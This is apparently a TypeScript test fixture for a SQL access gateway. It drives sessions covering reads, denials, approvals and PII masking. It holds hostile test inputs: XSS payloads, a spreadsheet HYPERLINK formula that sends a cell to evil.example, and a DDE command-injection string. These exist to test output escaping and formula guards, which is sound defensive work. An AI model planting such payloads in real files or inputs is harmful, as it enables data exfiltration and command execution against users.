// Sessions for the evidence tests, made the real way: through the gateway over HTTP with real
// tokens, against real PostgreSQL — reads, a denial, bad input, a refused model, hostile SQL, a
// DBA write, and a write held for approval, approved by a DBA, then run; the policy masks
// customers.email, so the PII read comes back masked. Plus one session appended straight to the
// log in the shape the masking step records (shared/masking/types.ts MaskDecision), with values
// fixed here, so the tests can name exactly what a replay must show.
import { createHash, createPublicKey } from 'node:crypto';
import type { SessionLog } from '../../shared/ports.ts';
import { startTestGateway, TEST_AUDIENCE, TEST_SIGNING_KEY, type TestGateway } from '../helpers/gateway.ts';

export const BOT = 'review-bot@acme-prod.iam.gserviceaccount.com';
export const DBA = 'alice@acme.com';
export const HOSTILE_SQL = `SELECT '</script><script>alert(1)</script>' AS x, '<img src=x onerror=alert(2)>' AS y`;
/** Starts with `-`: a spreadsheet would read the cell as a formula without the guard. */
export const FORMULA_SQL = `-- =HYPERLINK("http://evil.example/?"&A1)\nSELECT 1 AS one`;
export const FORMULA_MODEL = `=cmd|' /C calc'!A0`;
export const RAW_EMAIL = 'ada.lovelace@example.com';
/** The approval desk's public key in these tests: what an export records and verify checks votes with. */
export const DESK_PUBLIC_KEY = createPublicKey(TEST_SIGNING_KEY).export({ type: 'spki', format: 'pem' }).toString();

const policy = (issuer: string) => `version: 1
issuers:
  - issuer: ${issuer}
    audience: ${TEST_AUDIENCE}
    jwksUri: ${issuer}/jwks.json
    groupsClaim: groups
groups:
  review-bots: [${BOT}]
  dba: [${DBA}]
  auditors: [carol@acme.com]
connections:
  main:
    credentials: env://GATEHOUSE_TEST_TARGET_URL
    maxRows: 100
    statementTimeoutMs: 5000
rules:
  - name: bots-read
    principals: [group:review-bots]
    classes: [read]
    action: allow
  - name: bots-write-approved
    principals: [group:review-bots]
    classes: [write]
    action: approve
    approvers: [group:dba]
    quorum: 1
    ttl: 10m
  - name: dba-everything
    principals: [group:dba]
    action: allow
  - name: nothing-else
    action: deny
masking:
  columns:
    public.customers.email: email
  derived: mask
  detectors: [email]
agents:
  requireModel: true
  allowedModels: ["gemini-*", "test-model"]
`;

const SEED = `
  CREATE TABLE orders (id int PRIMARY KEY, total numeric(10,2) NOT NULL, note text);
  INSERT INTO orders SELECT g, g * 1.5, 'order ' || g FROM generate_series(1, 50) g;
  CREATE TABLE customers (id int PRIMARY KEY, name text NOT NULL, email text NOT NULL);
  INSERT INTO customers VALUES (1, 'Ada', '${RAW_EMAIL}'), (2, 'Grace', 'grace.hopper@example.com');
`;

export interface Made {
  readonly kind: string;
  readonly sessionId: string;
  readonly status: number;
}

export interface EvidenceFixture {
  readonly gw: TestGateway;
  readonly log: SessionLog;
  readonly made: readonly Made[];
  readonly byKind: (kind: string) => Made;
  /** A range that holds every session made here. */
  readonly from: Date;
  readonly to: Date;
  close(): Promise<void>;
}

export async function startEvidenceFixture(): Promise<EvidenceFixture> {
  const from = new Date(Date.now() - 60_000);
  const gw = await startTestGateway({ seedSql: SEED, policy });
  const made: Made[] = [];
  const auth = async (sub: string) => ({ authorization: `Bearer ${await gw.token(sub)}` });
  const send = async (kind: string, body: unknown, sub = BOT, headers: Record<string, string> = { 'x-agent-model': 'gemini-2.5-pro-002' }) => {
    const r = await gw.post('/v1/query', body, { ...(await auth(sub)), ...headers });
    if (!r.body.sessionId) throw new Error(`${kind}: no session (${r.status} ${JSON.stringify(r.body)})`);
    made.push({ kind, sessionId: r.body.sessionId, status: r.status });
    return r;
  };

  // Serial on purpose: the export orders by start time, and the tests count on this order.
  await send('read', { connection: 'main', sql: 'SELECT id, total FROM orders WHERE id <= $1 ORDER BY id', params: [3] }, BOT, { 'x-agent-model': 'gemini-2.5-pro-002', 'x-agent-run-id': 'run-42' });
  await send('pii-read', { connection: 'main', sql: 'SELECT name, email FROM customers ORDER BY id' });
  await send('denied', { connection: 'main', sql: 'DROP TABLE orders' });
  await send('unparsable', { connection: 'main', sql: 'SELEC id FROM orders' });
  await send('bad-json', '{"connection": "main", "sql": ');
  await send('model-refused', { connection: 'main', sql: 'SELECT 1' }, BOT, { 'x-agent-model': FORMULA_MODEL });
  await send('hostile', { connection: 'main', sql: HOSTILE_SQL });
  await send('formula', { connection: 'main', sql: FORMULA_SQL }, BOT, { 'x-agent-model': 'test-model' });
  await send('dba-write', { connection: 'main', sql: 'UPDATE orders SET note = $1 WHERE id = $2', params: ['checked', 7] }, DBA);

  // Held for approval, approved by a DBA with a comment, then run by the bot.
  const write = { connection: 'main', sql: 'UPDATE orders SET total = total + 1 WHERE id = $1', params: [9] };
  const held = await send('held', write);
  if (held.status !== 202) throw new Error(`expected 202 for a write needing approval, got ${held.status} ${JSON.stringify(held.body)}`);
  const approvalId = held.body.approval.id as string;
  const vote = await gw.post(`/v1/approvals/${approvalId}/approve`, { comment: 'checked the WHERE clause: one row' }, await auth(DBA));
  if (vote.status !== 200) throw new Error(`approving failed: ${vote.status} ${JSON.stringify(vote.body)}`);
  const ran = await send('redeemed', { ...write, approvalId });
  if (ran.status !== 200) throw new Error(`running the approved write failed: ${ran.status} ${JSON.stringify(ran.body)}`);

  made.push({ kind: 'masked', sessionId: await appendMaskedSession(gw.runtime.sessions, gw.runtime.policy.sha256, gw.issuer), status: 200 });

  return {
    gw,
    log: gw.runtime.sessions,
    made,
    byKind: (kind) => {
      const m = made.find((x) => x.kind === kind);
      if (!m) throw new Error(`no session of kind ${kind}`);
      return m;
    },
    from,
    to: new Date(Date.now() + 60_000),
    close: () => gw.close(),
  };
}

/** A read whose result masking changed, in the shape issue 3 records (per-column decisions). */
async function appendMaskedSession(log: SessionLog, policySha256: string, issuer: string): Promise<string> {
  const sessionId = `masked-${createHash('sha256').update(String(Math.random())).digest('hex').slice(0, 12)}`;
  const rows = [
    ['Ada', '***@example.com'],
    ['Grace', '***@example.com'],
  ];
  await log.append(sessionId, [
    {
      type: 'request',
      data: { endpoint: 'query', principal: { issuer, subject: BOT, email: BOT, groups: ['review-bots'] }, agent: { model: 'gemini-2.5-pro-002', runId: 'run-masked' }, connection: 'main', sql: 'SELECT name, email FROM customers ORDER BY id', params: [] },
    },
    {
      type: 'analysis',
      data: { pgType: 'SelectStmt', kind: 'SELECT', class: 'read', reasons: ['SELECT reads customers'], tables: { read: ['customers'], written: [] }, columns: ['name', 'email'], functions: [], fingerprint: 'f00d' },
    },
    { type: 'decision', data: { action: 'allow', rule: 'bots-read', reasons: ['rule "bots-read" allows read'], policySha256 } },
  ]);
  await log.append(sessionId, [{ type: 'execution.started', data: { connection: 'main', readOnly: true, maxRows: 100, statementTimeoutMs: 5000 } }]);
  await log.append(sessionId, [
    {
      type: 'execution.completed',
      data: {
        command: 'SELECT',
        rowCount: 2,
        truncated: false,
        durationMs: 3,
        columns: [
          { name: 'name', type: 'text', tableID: 16400, columnID: 2 },
          { name: 'email', type: 'text', tableID: 16400, columnID: 3 },
        ],
        rows,
        masking: [{ column: 'email', index: 1, strategy: 'email', why: 'provenance', source: ['public.customers.email'], cells: 2 }],
        resultSha256: createHash('sha256').update(JSON.stringify({ columns: ['name', 'email'], rows })).digest('hex'),
        rawHmacSha256: 'a'.repeat(64),
      },
    },
  ]);
  return sessionId;
}
